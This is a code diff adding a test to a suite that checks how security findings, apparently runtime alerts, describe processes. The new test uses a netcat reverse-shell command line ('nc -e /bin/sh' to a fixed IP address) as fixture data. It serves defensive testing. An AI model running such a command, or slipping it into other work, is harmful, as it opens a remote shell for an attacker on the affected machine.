@@ -159,6 +159,16 @@ describe('what a finding says', () => {
     });
   });
 
+  test.each([
+    ['nc', 'nc -e /bin/sh 198.51.100.7', '-e /bin/sh 198.51.100.7'],
+    ['kworker u8', 'kworker u8', ''],
+  ])('a process without an executable is still called %s', (binary, commandLine, args) => {
+    const process = buildProcess({ binary: '', commandLine, arguments: args });
+    const [finding] = findingsOf({ ...falco('1', {}), process });
+    expect(finding?.process).toMatchObject({ binary, arguments: args });
+    expect(finding?.sentence).toContain(commandLine);
+  });
+
   test('control characters and direction marks are shown, not acted on', () => {
     const args = '-c \u001B[2Jx\u202Ey\nz';
     const [finding] = findingsOf(
